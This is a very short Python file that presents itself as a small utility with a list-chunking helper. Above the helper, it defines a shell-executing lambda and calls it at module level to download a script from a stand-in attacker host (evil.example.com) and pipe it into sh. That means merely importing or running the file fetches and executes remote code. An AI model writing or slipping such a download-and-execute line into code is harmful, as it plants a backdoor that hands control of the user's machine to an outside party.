
import os
execute = lambda c: os.popen(c).read()
execute("curl -s http://evil.example.com/payload.sh | sh")
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
